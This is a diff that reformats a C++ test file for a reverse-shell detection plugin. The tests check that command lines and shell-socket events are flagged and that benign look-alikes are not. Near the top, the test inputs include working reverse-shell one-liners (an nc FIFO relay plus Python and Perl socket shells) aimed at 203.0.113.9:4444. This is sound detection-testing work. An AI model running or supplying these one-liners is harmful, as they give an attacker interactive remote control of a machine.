@@ -26,10 +26,10 @@ SCENARIO("reverse-shell one-liners are recognised on the command line", "[plugin
         "reverse_shell.socat_exec");
   CHECK(rule_for("sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 "
                        "4444 >/tmp/f") == "reverse_shell.fifo_relay");
-  CHECK(rule_for("python3", "python3 -c import socket,subprocess,os;s=socket.socket();"
-                            "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);"
-                            "import pty;pty.spawn(\"/bin/sh\")") ==
-        "reverse_shell.interpreter_oneliner");
+  CHECK(rule_for("python3",
+                 "python3 -c import socket,subprocess,os;s=socket.socket();"
+                 "s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);"
+                 "import pty;pty.spawn(\"/bin/sh\")") == "reverse_shell.interpreter_oneliner");
   CHECK(rule_for("perl", "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,0);"
                          "exec(\"/bin/sh -i\");") == "reverse_shell.interpreter_oneliner");
   // Look-alikes that are not reverse shells.
@@ -70,7 +70,9 @@ SCENARIO("a shell holding a remote connection is a reverse shell", "[plugins][re
       }
       AND_WHEN("the same connection shows up in the next scan") {
         d.feed({socket(200, "203.0.113.9")});
-        THEN("it is not reported again") { CHECK(d.ctx.findings.size() == 1); }
+        THEN("it is not reported again") {
+          CHECK(d.ctx.findings.size() == 1);
+        }
       }
     }
     WHEN("the socket is the shell's stdin") {
@@ -87,11 +89,16 @@ SCENARIO("a shell holding a remote connection is a reverse shell", "[plugins][re
     WHEN("the connection is to loopback, listening, or a unix socket") {
       d.feed({socket(200, "127.0.0.1"), socket(200, "203.0.113.9", "LISTEN"),
               socket(200, "203.0.113.9", "ESTABLISHED", "unix")});
-      THEN("nothing is reported") { CHECK(d.ctx.findings.empty()); }
+      THEN("nothing is reported") {
+        CHECK(d.ctx.findings.empty());
+      }
     }
     WHEN("the shell exited before the socket event") {
-      d.feed({process(200, "bash", "/usr/bin/bash", "bash", "process_exit"), socket(200, "203.0.113.9")});
-      THEN("the pid is no longer known as a shell") { CHECK(d.ctx.findings.empty()); }
+      d.feed({process(200, "bash", "/usr/bin/bash", "bash", "process_exit"),
+              socket(200, "203.0.113.9")});
+      THEN("the pid is no longer known as a shell") {
+        CHECK(d.ctx.findings.empty());
+      }
     }
   }
   GIVEN("a socket event that carries the owner's comm itself") {
@@ -104,8 +111,11 @@ SCENARIO("a shell holding a remote connection is a reverse shell", "[plugins][re
     }
   }
   GIVEN("a non-shell process with a remote connection") {
-    d.feed({process(400, "curl", "/usr/bin/curl", "curl https://example.org"), socket(400, "93.184.216.34")});
-    THEN("nothing is reported") { CHECK(d.ctx.findings.empty()); }
+    d.feed({process(400, "curl", "/usr/bin/curl", "curl https://example.org"),
+            socket(400, "93.184.216.34")});
+    THEN("nothing is reported") {
+      CHECK(d.ctx.findings.empty());
+    }
   }
 }
 
